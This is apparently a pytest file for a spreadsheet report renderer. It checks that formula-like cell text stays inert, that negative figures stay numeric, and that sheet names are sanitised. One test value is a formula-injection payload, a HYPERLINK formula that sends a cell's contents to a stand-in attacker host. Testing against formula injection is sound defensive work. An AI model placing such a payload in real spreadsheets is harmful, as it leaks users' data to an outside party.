"""The performance report's spreadsheet never turns a stored text into a live
formula, and a theme's text makes a valid, unique sheet name (issue #10, fault 14)."""

from __future__ import annotations

import dataclasses
import io
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from roundtable.performance.renderers import render_xlsx
from roundtable.performance.report import Commentary, IssueRow
from roundtable.performance.tests.report_fixtures import ealing_q2_report

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def workbook_bytes() -> bytes:
    report = ealing_q2_report()
    first = report.themes[0]
    first.rows[0] = dataclasses.replace(
        first.rows[0],
        code="+NI 123",
        name=ATTACK,
        lead_agency="@Ealing",
        commentary=Commentary(progress="-1+1", challenges="\tTabbed"),
    )
    first.theme = "=Health: [draft]/2011?"
    report.themes[1].theme = "=Health: [draft]/2011?"
    report.data_issues.append(IssueRow("", "=1+1", "no_data", "+2", "@board", "open", None))
    return render_xlsx(report)


def test_no_cell_of_the_report_is_a_formula(workbook_bytes):
    archive = zipfile.ZipFile(io.BytesIO(workbook_bytes))
    sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets
    assert not [n for n in sheets if b"<f>" in archive.read(n)]


def test_formula_like_text_is_kept_exactly_as_text(workbook_bytes):
    workbook = load_workbook(io.BytesIO(workbook_bytes))
    sheet = workbook.worksheets[2]
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row if cell.value}
    for text in ("+NI 123", ATTACK, "@Ealing", "-1+1", "\tTabbed"):
        assert cells[text].data_type == "s"
        assert cells[text].quotePrefix is True
    issues = workbook["Data issues"]
    values = [c for row in issues.iter_rows(min_row=2) for c in row if c.value == "=1+1"]
    assert values
    assert values[0].quotePrefix is True


def test_negative_figures_stay_numbers():
    report = ealing_q2_report()
    first = report.themes[0]
    first.rows[0] = dataclasses.replace(first.rows[0], target=Decimal("-5"))
    workbook = load_workbook(io.BytesIO(render_xlsx(report)))
    values = [c.value for row in workbook["Health"].iter_rows(min_row=2) for c in row]
    assert -5 in values


def test_a_theme_text_becomes_a_valid_unique_sheet_name(workbook_bytes):
    names = load_workbook(io.BytesIO(workbook_bytes)).sheetnames
    assert names[2] == "=Health- -draft--2011-"
    assert names[3] == "=Health- -draft--2011- (2)"
    assert all(len(name) <= 31 for name in names)
